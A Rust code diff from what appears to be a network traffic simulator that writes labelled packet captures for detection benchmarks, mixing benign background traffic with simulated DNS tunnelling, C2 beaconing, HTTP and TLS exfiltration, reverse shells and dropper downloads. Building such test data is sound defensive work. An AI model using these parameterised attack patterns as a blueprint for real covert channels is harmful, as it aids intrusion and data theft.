-                    t = tv + rng.exp(600e6) as i64;
-                }
-                // antivirus reputation lookups: bursts during file scans (every host runs the agent)
-                let mut t = from + rng.exp(600e6) as i64;
-                while t < to {
-                    for k in 0..rng.range(3, 15) {
-                        add(
-                            tasks,
-                            t + k as i64 * rng.range(50_000, 2_000_000) as i64,
-                            Task::AvLookup { host: h },
-                        );
-                    }
-                    t += rng.exp(1200e6) as i64;
-                }
-                // mDNS service discovery
-                let mut t = from + rng.range(0, 120_000_000) as i64;
-                while t < to {
-                    add(tasks, t, Task::Mdns { host: h });
-                    t += rng.lognormal(300e6, 0.5) as i64;
-                }
-                // a fixed period with a little jitter, from a random phase
-                let mut periodic = |tasks: &mut Vec<(i64, u64, Task)>,
-                                    rng: &mut Rng,
-                                    period_us: u64,
-                                    jitter_us: u64,
-                                    task: &dyn Fn() -> Task| {
-                    let mut t = from + rng.range(0, period_us) as i64;
-                    while t < to {
-                        add(tasks, t, task());
-                        t += (period_us + rng.range(0, jitter_us)) as i64;
-                    }
-                };
-                // NTP every 64 s and the monitoring agent every 60 s (fixed periods, every host)
-                periodic(tasks, rng, 64_000_000, 400_000, &|| Task::Ntp { host: h });
-                periodic(tasks, rng, 60_000_000, 300_000, &|| Task::Monitor {
-                    host: h,
-                });
-                // hourly update checks, and connectivity checks every 300 s
-                if h % 2 == 1 {
-                    periodic(tasks, rng, 3_600_000_000, 20_000_000, &|| {
-                        Task::UpdateCheck { host: h }
-                    });
-                }
-                periodic(tasks, rng, 300_000_000, 2_000_000, &|| Task::ConnCheck {
-                    host: h,
-                });
-                // long sessions with heartbeats: push (every other host), websocket pings, cast
-                for (kind, every) in [(0usize, 2usize), (1, 3), (2, 5)] {
-                    if h % every == kind % every {
-                        let t = from + rng.range(0, 30_000_000) as i64;
-                        add(
-                            tasks,
-                            t,
-                            Task::Session {
-                                host: h,
-                                kind,
-                                until: to,
-                            },
-                        );
-                    }
-                }
-                if h == 1 {
-                    add(
-                        tasks,
-                        from + rng.range(0, 10_000_000) as i64,
-                        Task::Session {
-                            host: h,
-                            kind: 3,
-                            until: to,
-                        },
-                    );
-                }
-                // reverse lookups
-                let mut t = from + rng.exp(900e6) as i64;
-                while t < to {
-                    add(tasks, t, Task::Reverse { host: h });
-                    t += rng.exp(900e6) as i64;
-                }
-            }
-            // the mail server (host 0) checks DNSBLs for incoming senders
-            let mut t = from + rng.exp(30e6) as i64;
-            while t < to {
-                add(tasks, t, Task::Dnsbl { host: 0 });
-                t += rng.exp(40e6) as i64;
-            }
-        };
+    let mut sched = Schedule::default();
     let end = start + dur;
-    background(&mut tasks, &mut world.rng, start, end, &mut add);
+    background(&mut sched, &mut world.rng, n, start, end);
     // cloud storage uploads by three hosts (benign, large, shared peer)
     let uploaders: Vec<usize> = (0..3).map(|k| (1 + k * 2) % n).collect();
     let up_bytes = if dur <= 1_200_000_000 {
@@ -1570,7 +1922,7 @@ pub fn simulate<W: Write>(cfg: &SimConfig, w: W) -> Result<(Truth, W), SimError>
         let b = ((up_bytes + world.rng.range(0, up_bytes as u64 / 2) as usize) as f64
             * world.scale.min(1.0)) as usize;
         let t = start + world.rng.range(0, dur as u64 * 9 / 10) as i64;
-        add(&mut tasks, t, Task::CloudUpload { host: h, bytes: b });
+        sched.add(t, Task::CloudUpload { host: h, bytes: b });
     }
     truth.lookalikes.push(LookalikeTruth {
         kind: "cloud_storage_upload".into(),
@@ -1586,7 +1938,7 @@ pub fn simulate<W: Write>(cfg: &SimConfig, w: W) -> Result<(Truth, W), SimError>
     let vendor_hosts = [2 % n, 3 % n];
     for (kind, &h) in vendor_hosts.iter().enumerate() {
         let t = start + vr.range(0, dur as u64 * 9 / 10) as i64;
-        add(&mut tasks, t, Task::VendorDownload { host: h, kind });
+        sched.add(t, Task::VendorDownload { host: h, kind });
     }
     truth.lookalikes.push(LookalikeTruth {
         kind: "vendor_software_download".into(),
@@ -1722,226 +2074,28 @@ pub fn simulate<W: Write>(cfg: &SimConfig, w: W) -> Result<(Truth, W), SimError>
         victims.swap(i, j);
     }
     let mut victim = victims.into_iter().cycle();
-    let small = dur <= 1_200_000_000;
-    let a0 = start + dur / 20;
-    let a1 = end - dur / 20;
+    let at = Window {
+        start,
+        end,
+        dur,
+        a0: start + dur / 20,
+        a1: end - dur / 20,
+        small: dur <= 1_200_000_000,
+    };
     for a in &cfg.attacks {
-        let r = &mut world.rng;
         let h = victim.next().unwrap_or(0);
         let src = hosts[h].v4.to_string();
         match a.as_str() {
-            "dns_tunnel" => {
-                let domain = rand_domain(r);
-                let encoding = *r.pick(&["base32", "hex", "base64url", "iodine"]);
-                let (qtype, qname) = *r.pick(&[
-                    (16u16, "TXT"),
-                    (10, "NULL"),
-                    (5, "CNAME"),
-                    (1, "A"),
-                    (15, "MX"),
-                ]);
-                let bursty = r.chance(0.5);
-                let chunk = match encoding {
-                    "hex" => r.range(30, 60),
-                    "iodine" => r.range(80, 140),
-                    _ => r.range(45, 90),
-                } as usize;
-                let total = if bursty {
-                    r.range(20_000, 120_000)
-                } else {
-                    r.range(2_000, 8_000)
-                } as usize;
-                let total = if small { total.min(30_000) } else { total };
-                let queries = (total / chunk).max(12);
-                world.tunnels.push(Tunnel {
-                    host: h,
-                    domain: domain.clone(),
-                    encoding,
-                    qtype,
-                    chunk,
-                    seq: r.range(0, 4000) as u32,
-                });
-                let idx = world.tunnels.len() - 1;
-                if bursty {
-                    let bursts = r.range(1, 4);
-                    let per = queries as u64 / bursts + 1;
-                    for _ in 0..bursts {
-                        let mut t = r.range(a0 as u64, a1 as u64) as i64;
-                        let qps = r.uniform(5.0, 30.0);
-                        for _ in 0..per {
-                            add(&mut tasks, t, Task::TunnelQuery { idx });
-                            t += (r.exp(1e6 / qps) as i64).max(1000);
-                        }
-                    }
-                } else {
-                    let step = (a1 - a0) / queries as i64;
-                    for k in 0..queries {
-                        let t = a0 + k as i64 * step + r.range(0, step as u64 / 2 + 1) as i64;
-                        add(&mut tasks, t, Task::TunnelQuery { idx });
-                    }
-                }
-                truth.attacks.push(AttackTruth { category: "dns_tunnel".into(), kind: format!("dns_tunnel_{encoding}_{qname}"), src_ip: src, dst_ip: Some(resolver_ip.to_string()), dst_port: Some(53), domain: Some(domain), parameters: json!({"encoding": encoding, "qtype": qname, "mode": if bursty {"bursty"} else {"slow"}, "raw_bytes": queries * chunk, "queries": queries, "bytes_per_query": chunk}) });
-            }
-            "beaconing" => {
-                let transport = *r.pick(&["http", "http_ip", "tls", "tcp"]);
-                let domain = rand_domain(r);
-                let dst = IpAddr::V4(public_v4(&domain));
-                let port = match transport {
-                    "http" | "http_ip" => *r.pick(&[80u16, 8080]),
-                    "tls" => *r.pick(&[443u16, 8443]),
-                    _ => *r.pick(&[4444u16, 8000, 5555, 1337]),
-                };
-                let max_period = ((a1 - a0) as f64 / 1e6 / 15.0).min(1800.0).max(5.0);
-                let period = r.log_uniform(5.0, max_period);
-                let jitter = r.uniform(0.0, 0.35);
-                let missed = r.uniform(0.0, 0.1);
-                world.beacons.push(Beacon {
-                    host: h,
-                    transport,
-                    dst,
-                    port,
-                    domain: domain.clone(),
-                    beats: 0,
-                });
-                let idx = world.beacons.len() - 1;
-                let mut t = a0 + r.range(0, (period * 1e6) as u64) as i64;
-                let mut beats = 0;
-                while t < a1 {
-                    if !r.chance(missed) {
-                        let tasking = r.chance(0.05);
-                        add(&mut tasks, t, Task::Beacon { idx, tasking });
-                        beats += 1;
-                    }
-                    t += (period * 1e6 * (1.0 + jitter * r.uniform(-1.0, 1.0))) as i64;
-                }
-                truth.attacks.push(AttackTruth { category: "beaconing".into(), kind: format!("beacon_{transport}"), src_ip: src, dst_ip: Some(dst.to_string()), dst_port: Some(port), domain: (transport != "tcp" && transport != "http_ip").then_some(domain), parameters: json!({"transport": transport, "period_s": (period * 100.0).round() / 100.0, "jitter": (jitter * 1000.0).round() / 1000.0, "missed_probability": (missed * 1000.0).round() / 1000.0, "check_ins": beats}) });
-            }
-            "http_exfil" => {
-                let domain = rand_domain(r);
-                let dst = IpAddr::V4(public_v4(&domain));
-                let port = *r.pick(&[80u16, 8080, 3333]);
-                let method = *r.pick(&["POST", "PUT"]);
-                let chunked = r.chance(0.5);
-                let many = r.chance(0.5);
-                let total = if small {
-                    r.range(1_300_000, 1_800_000)
-                } else {
-                    r.range(2_000_000, 40_000_000)
-                } as usize;
-                world.http_exfil.push(Exfil {
-                    host: h,
-                    dst,
-                    port,
-                    domain: domain.clone(),
-                    method,
-                    chunked,
-                    compressible: true,
-                });
-                let idx = world.http_exfil.len() - 1;
-                let conns = if many { r.range(8, 40) as usize } else { 1 };
-                let t0 = r.range(a0 as u64, (a0 + (a1 - a0) / 2) as u64) as i64;
-                let gap = (a1 - t0) / conns as i64;
-                for k in 0..conns {
-                    add(
-                        &mut tasks,
-                        t0 + k as i64 * gap,
-                        Task::HttpExfil {
-                            idx,
-                            bytes: total / conns,
-                        },
-                    );
-                }
-                truth.attacks.push(AttackTruth { category: "exfiltration".into(), kind: "http_exfil".into(), src_ip: src, dst_ip: Some(dst.to_string()), dst_port: Some(port), domain: Some(if port == 80 { domain } else { format!("{domain}:{port}") }), parameters: json!({"method": method, "chunked": chunked, "connections": conns, "bytes": total}) });
-            }
-            "tls_exfil" => {
-                let domain = rand_domain(r);
-                let dst = IpAddr::V4(public_v4(&domain));
-                let total = if small {
-                    r.range(1_050_000, 1_250_000)
-                } else {
-                    r.range(3_000_000, 50_000_000)
-                } as usize;
-                world.tls_exfil.push(Exfil {
-                    host: h,
-                    dst,
-                    port: 443,
-                    domain: domain.clone(),
-                    method: "",
-                    chunked: false,
-                    compressible: false,
-                });
-                let idx = world.tls_exfil.len() - 1;
-                let t = r.range(a0 as u64, a1 as u64) as i64;
-                add(&mut tasks, t, Task::TlsExfil { idx, bytes: total });
-                truth.attacks.push(AttackTruth {
-                    category: "exfiltration".into(),
-                    kind: "tls_exfil".into(),
-                    src_ip: src,
-                    dst_ip: Some(dst.to_string()),
-                    dst_port: Some(443),
-                    domain: Some(domain),
-                    parameters: json!({"bytes": total}),
-                });
-            }
-            "reverse_shell" => {
-                let dst = IpAddr::V4(public_v4(&format!("shell-{}", r.u64())));
-                let port = *r.pick(&[4444u16, 8888, 1337, 9001, 6666, 31337]);
-                let t0 = r.range((start + dur / 40) as u64, (start + dur / 5) as u64) as i64;
-                let until = end - r.range(0, (dur / 10) as u64) as i64;
-                add(
-                    &mut tasks,
-                    t0,
-                    Task::Shell {
-                        host: h,
-                        dst,
-                        port,
-                        until,
-                    },
-                );
-                truth.attacks.push(AttackTruth {
-                    category: "long_connection".into(),
-                    kind: "reverse_shell".into(),
-                    src_ip: src,
-                    dst_ip: Some(dst.to_string()),
-                    dst_port: Some(port),
-                    domain: None,
-                    parameters: json!({"port": port, "duration_s": (until - t0) / 1_000_000}),
-                });
-            }
-            "dropper" => {
-                let variant = *r.pick(&["pe", "pe_as_image", "encrypted", "powershell"]);
-                let domain = rand_domain(r);
-                let dst = IpAddr::V4(public_v4(&domain));
-                let by_name = r.chance(0.6);
-                let host_hdr = if by_name {
-                    domain.clone()
-                } else {
-                    dst.to_string()
-                };
-                world.droppers.push(Dropper {
-                    host: h,
-                    dst,
-                    host_hdr: host_hdr.clone(),
-                    by_name,
-                    variant,
-                });
-                let idx = world.droppers.len() - 1;
-                let t = r.range(a0 as u64, a1 as u64) as i64;
-                add(&mut tasks, t, Task::Dropper { idx });
-                truth.attacks.push(AttackTruth {
-                    category: "download".into(),
-                    kind: format!("dropper_{variant}"),
-                    src_ip: src,
-                    dst_ip: Some(dst.to_string()),
-                    dst_port: Some(80),
-                    domain: by_name.then_some(domain),
-                    parameters: json!({"variant": variant, "host": host_hdr}),
-                });
-            }
+            "dns_tunnel" => plan_dns_tunnel(&mut world, &mut sched, &mut truth, &at, h, src),
+            "beaconing" => plan_beaconing(&mut world, &mut sched, &mut truth, &at, h, src),
+            "http_exfil" => plan_http_exfil(&mut world, &mut sched, &mut truth, &at, h, src),
+            "tls_exfil" => plan_tls_exfil(&mut world, &mut sched, &mut truth, &at, h, src),
+            "reverse_shell" => plan_reverse_shell(&mut world, &mut sched, &mut truth, &at, h, src),
+            "dropper" => plan_dropper(&mut world, &mut sched, &mut truth, &at, h, src),
             _ => {}
         }
     }
-    tasks.sort_by_key(|(t, tie, _)| (*t, *tie));
+    let tasks = sched.into_sorted();
     let mut out = PcapOut::new(w)?;
     for (t, _, task) in &tasks {
         out.flush_until(*t)?;
@@ -1951,15 +2105,12 @@ pub fn simulate<W: Write>(cfg: &SimConfig, w: W) -> Result<(Truth, W), SimError>
     // benchmark captures: more background hours until the size is reached
     let mut t_end = end;
     if let Some(size) = cfg.size {
-        let mut add2 =
-            |tasks: &mut Vec<(i64, u64, Task)>, t: i64, task: Task| tasks.push((t, 0, task));
         while out.bytes < size {
-            let mut more: Vec<(i64, u64, Task)> = Vec::new();
+            let mut more = Schedule::default();
             let from = t_end;
             t_end += 3_600_000_000;
-            background(&mut more, &mut world.rng, from, t_end, &mut add2);
-            more.sort_by_key(|(t, _, _)| *t);
-            for (t, _, task) in &more {
+            background(&mut more, &mut world.rng, n, from, t_end);
+            for (t, _, task) in &more.into_sorted() {
                 out.flush_until(*t)?;
                 world.run(&mut out, *t, task);
                 if out.bytes >= size {
@@ -1968,11 +2119,7 @@ pub fn simulate<W: Write>(cfg: &SimConfig, w: W) -> Result<(Truth, W), SimError>
             }
         }
     }
-    let packets_before = out.packets;
-    let _ = packets_before;
-    let (packets, bytes) = (out.packets, out.bytes);
     let w = out.finish()?;
-    let _ = (packets, bytes);
     truth.end = rfc3339(t_end);
     Ok((truth, w))
 }
